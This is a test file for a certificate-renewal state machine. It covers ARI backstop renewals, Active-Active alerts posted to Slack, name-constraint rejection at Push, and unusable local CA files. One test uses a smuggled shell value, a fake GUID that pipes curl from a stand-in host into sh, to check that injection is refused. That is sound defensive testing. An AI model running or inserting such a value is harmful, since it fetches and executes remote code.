/**
 * Issue 18's defects at the edges, through the executed state machine (the synthesized definition
 * run by aws-local-stepfunctions, our handlers in its tasks): the ARI backstop, the Active-Active
 * follow-up's findings, Slack alerts within Block Kit through the AWS forwarder, a chain its clients
 * reject refused before Push sends it, and unusable local CA files. (Through the CLI: test/cli/edges.test.ts.)
 */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { alertSeverity } from '../../lambdas/domain/alerts';
import type { Alert, Notifier } from '../../lambdas/domain/ports';
import { createSlackForwarder } from '../../lambdas/handlers/slack-forwarder';
import { STATE_NAMES } from '../../lib/workflow';
import { type AriServer, ariCertId, startAriServer } from '../support/ari-server';
import { expectWithinBlockKit } from '../support/block-kit';
import { type LocalWorkflow, localWorkflow } from '../support/local-workflow';
import { createCa } from '../support/pki';
import { topicQueueEvent } from '../support/topic-queue';
import { startWebhookCapture, type WebhookCapture } from '../support/webhook-capture';
import { DAY, daysFromNow, startWorld, type World } from '../support/world';

const guid = (i: number) => `1a2b3c4d-0000-4000-8000-${String(i).padStart(12, '0')}`;
const EVIL = 'x; curl -s https://evil.example/p | sh #';

const checkOutput = (w: LocalWorkflow) => {
  return w.checked();
};
const puts = (world: World) => world.sims.east!.requests.filter((r) => r.method === 'PUT');

/**
 * What the deployment does with an alert: SNS carries it through the forwarder's SQS queue (an SNS
 * envelope per record) to the Slack forwarder. Its pacing (tested in test/unit/slack-queue.test.ts)
 * is off here: each alert is one batch, posted at once.
 */
function throughSnsToSlack(slack: WebhookCapture): Notifier & { alerts: Alert[] } {
  const forward = createSlackForwarder(async () => `${slack.url}/services/T0/B0/forwarder`, {
    minIntervalMs: 0,
  });
  const alerts: Alert[] = [];
  return {
    alerts,
    async send(alert) {
      alerts.push(alert);
      const Message = JSON.stringify({ ...alert, severity: alertSeverity(alert) });
      expect(await forward(topicQueueEvent([Message], 'x'))).toEqual({ batchItemFailures: [] });
    },
  };
}

describe('the edges, through the executed state machine', () => {
  let world: World;
  let ari: AriServer;
  let slack: WebhookCapture;
  const sim = () => world.sims.east!;
  const writeConfig = (cluster: Record<string, unknown> = {}, certificates: Record<string, unknown> = {}) =>
    world.writeConfig(
      { acme: { directoryUrl: ari.directoryUrl, email: 'ops@example.com', caFile: ari.caFile } },
      {
        east: {
          serverName: 'cluster.example.com',
          ...cluster,
          certificates: { proxy: { domains: ['*.redis.example.com'] }, ...certificates },
        },
      },
    );

  beforeAll(async () => {
    slack = await startWebhookCapture();
    world = await startWorld({
      clusters: {
        east: {
          softwareVersion: '7.22.2-14',
          certificates: {
            api: { dnsNames: ['cluster.example.com'], notBefore: daysFromNow(-85), notAfter: daysFromNow(5) },
            // A 90-day certificate 12 hours from expiry.
            proxy: {
              dnsNames: ['*.redis.example.com'],
              notBefore: daysFromNow(-89.5),
              notAfter: daysFromNow(0.5),
            },
          },
        },
      },
      pebble: {},
    });
    ari = await startAriServer(world.pebble!, { dir: world.dir });
  });
  afterAll(async () => {
    await ari?.close();
    await world?.close();
    await slack?.close();
  });
  beforeEach(() => {
    ari.reset();
    slack.received.length = 0;
    sim().setCrdbs([]);
  });

  it('renews a certificate 12 hours from expiry whose ARI window is three years away (the backstop decides)', async () => {
    const certId = ariCertId(sim().certificate('proxy')!.certPem);
    const inThreeYears = Date.now() + 3 * 365 * DAY;
    ari.setWindow(certId, { start: new Date(inThreeYears), end: new Date(inThreeYears + DAY) });
    const workflow = await localWorkflow(world, await writeConfig());
    await workflow.execute();
    expect(checkOutput(workflow).due).toEqual([
      expect.objectContaining({
        certificate: 'proxy',
        renewalWindow: expect.objectContaining({ ignored: expect.stringContaining('lifetime backstop') }),
      }),
    ]);
    expect(workflow.alerts.find((a) => a.kind === 'renewed')).toMatchObject({
      certificate: 'proxy',
      renewalWindow: { ignored: expect.stringContaining('ARI never postpones a renewal past it') },
    });
  });

  it('Active-Active: 60 databases reach Slack through the forwarder within Block Kit, every GUID shown', async () => {
    sim().setCrdbs(Array.from({ length: 60 }, (_, i) => ({ guid: guid(i), name: `db-${i}` })));
    const notifier = throughSnsToSlack(slack);
    const workflow = await localWorkflow(world, await writeConfig(), { notifier });
    await workflow.execute({ force: ['proxy'] });
    expect(notifier.alerts.find((a) => a.kind === 'active-active')).toMatchObject({ mode: 'alert' });
    const message = slack.received.find((m) => JSON.stringify(m).includes('Active-Active'));
    const shown = expectWithinBlockKit(message);
    for (let i = 0; i < 60; i++) expect(shown).toContain(`--crdb-guid ${guid(i)} --force`);
    for (const m of slack.received) expectWithinBlockKit(m);
  });

  it('Active-Active: a CRDB "GUID" that is not GUID-shaped is refused, in no command and no request', async () => {
    sim().setCrdbs([
      { guid: guid(7), name: 'orders' },
      { guid: EVIL, name: 'evil' },
    ]);
    const before = sim().crdbUpdates.length;
    const workflow = await localWorkflow(world, await writeConfig({ activeActive: 'update' }));
    await workflow.execute({ force: ['proxy'] });
    const aa = workflow.alerts.find((a) => a.kind === 'active-active') as Extract<
      Alert,
      { kind: 'active-active' }
    >;
    expect(aa.mode).toBe('failed');
    expect(aa.databases).toEqual([
      expect.objectContaining({
        guid: guid(7),
        status: 'finished',
        command: `crdb-cli crdb update --crdb-guid ${guid(7)} --force`,
      }),
      expect.objectContaining({
        guid: JSON.stringify(EVIL),
        status: 'refused',
        error: expect.stringMatching(/not GUID-shaped/),
      }),
    ]);
    expect(aa.databases[1]!.command).toBeUndefined();
    expect(
      sim()
        .crdbUpdates.slice(before)
        .map((u) => u.crdbGuid),
    ).toEqual([guid(7)]);
    expect(JSON.stringify(workflow.alerts)).not.toMatch(/--crdb-guid[\s\\"]*x;/);
  });

  it('Push refuses an api certificate from a CA whose name constraints exclude the name: nothing is sent', async () => {
    const ca = await createCa({
      commonName: 'Excludes example.com',
      keyKind: 'ecdsa',
      nameConstraints: { excluded: ['example.com'] },
    });
    await writeFile(join(world.dir, 'nc-ca.pem'), ca.certPem);
    await writeFile(join(world.dir, 'nc-ca.key'), ca.keyPem, { mode: 0o600 });
    const caFile = join(world.dir, 'east-ca-and-nc.pem');
    await writeFile(caFile, `${sim().caPem}${ca.certPem}`);
    const putsBefore = puts(world).length;
    const workflow = await localWorkflow(
      world,
      await writeConfig(
        { caFile },
        {
          api: {
            domains: ['cluster.example.com'],
            keyType: 'ecdsa-p256',
            issuer: {
              type: 'local-ca',
              certFile: join(world.dir, 'nc-ca.pem'),
              keyFile: join(world.dir, 'nc-ca.key'),
              validityDays: 30,
            },
          },
        },
      ),
    );
    await workflow.execute({ force: ['api'] });
    expect(workflow.calls.filter((c) => c.state === STATE_NAMES.push).map((c) => c.error)).toEqual([
      'CertificateValidationError',
    ]);
    expect(workflow.alerts.find((a) => a.kind === 'renewal-failed')).toMatchObject({
      certificate: 'api',
      error: {
        name: 'CertificateValidationError',
        message: expect.stringContaining('excluded subtree violation'),
      },
    });
    expect(puts(world).length).toBe(putsBefore);
  });

  it('a garbage local CA key is a LocalCaFileError at Issue; a garbage certFile stops synth', async () => {
    const lab = await createCa({ commonName: 'Lab CA', keyKind: 'ecdsa' });
    await writeFile(join(world.dir, 'lab.pem'), lab.certPem);
    await writeFile(
      join(world.dir, 'garbage.key'),
      '-----BEGIN PRIVATE KEY-----\nbm90IGEga2V5\n-----END PRIVATE KEY-----\n',
    );
    await writeFile(
      join(world.dir, 'garbage.pem'),
      '-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n',
    );
    const issuer = (certFile: string, keyFile: string) => ({
      syncer: {
        domains: ['syncer.example.com'],
        issuer: {
          type: 'local-ca',
          certFile: join(world.dir, certFile),
          keyFile: join(world.dir, keyFile),
          validityDays: 30,
        },
      },
    });
    await expect(
      localWorkflow(world, await writeConfig({}, issuer('garbage.pem', 'lab.key'))),
    ).rejects.toThrow(
      /issuer\.certFile: the local CA certificate file .*garbage\.pem: certificate #1 does not parse as X\.509 \(.*\); expected the CA certificate in PEM/,
    );

    await writeFile(join(world.dir, 'lab.key'), lab.keyPem, { mode: 0o600 });
    const workflow = await localWorkflow(world, await writeConfig({}, issuer('lab.pem', 'garbage.key')));
    await workflow.execute({ force: ['syncer'] });
    expect(workflow.alerts.find((a) => a.kind === 'renewal-failed')).toMatchObject({
      certificate: 'syncer',
      error: {
        name: 'LocalCaFileError',
        message: expect.stringMatching(
          // Deployed, the key is a secret (test/support/local-workflow.ts asDeployedConfig) holding what garbage.key held.
          /the local CA key secret ca\/east\/syncer does not parse \(.*\); expected the CA's unencrypted private key in PEM/,
        ),
      },
    });
  });
});
